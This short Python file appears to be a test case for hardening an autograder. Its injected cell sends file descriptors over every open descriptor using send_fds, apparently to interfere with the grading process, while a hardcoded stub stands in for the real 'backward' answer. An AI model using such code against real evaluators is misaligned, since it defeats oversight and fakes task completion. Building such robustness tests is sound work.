"""Passes its own descriptors over the wire, as ancillary data, in the hope that they are taken.

deserves: 1
"""

CELL = r"""
import os, socket
for name in os.listdir("/proc/self/fd"):
    try:
        line = socket.socket(fileno=os.dup(int(name)))
        socket.send_fds(line, [b"\x01\0\0\0\0\0\0\0N"], [os.open("/dev/zero", os.O_RDONLY)] * 20)
    except OSError:
        pass
"""

BACKWARD = """
def backward_propagation(x, theta): return 2.75
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL, before="backward")
    work.answer("backward", BACKWARD)
